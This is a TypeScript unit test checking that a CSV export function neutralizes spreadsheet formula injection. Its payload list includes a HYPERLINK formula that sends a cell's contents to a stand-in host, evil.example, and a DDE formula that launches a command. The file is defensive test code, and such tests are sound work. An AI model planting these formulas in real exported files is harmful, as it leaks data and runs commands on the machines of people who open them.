import { describe, expect, it } from 'vitest';
import { toCsv } from './csv';

// OWASP CSV injection: a cell a spreadsheet would evaluate must arrive as text.
describe('toCsv formula neutralization', () => {
  const payloads = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '+1+1',
    '-2+3',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    "=cmd|' /C calc'!A0",
  ];
  it.each(payloads)('%j is written as text, behind an apostrophe', (payload) => {
    const line = toCsv(['v'], [[payload]]).split('\r\n')[1];
    expect(line.startsWith('"\'')).toBe(true);
    expect(line).not.toMatch(/^[=+\-@\t\r]/);
  });
  it('leaves ordinary text and numbers alone', () => {
    expect(toCsv(['a', 'b', 'c'], [['payments', -3, 'arn:aws:iam::1:role/x']])).toBe('a,b,c\r\npayments,-3,arn:aws:iam::1:role/x\r\n');
  });
});
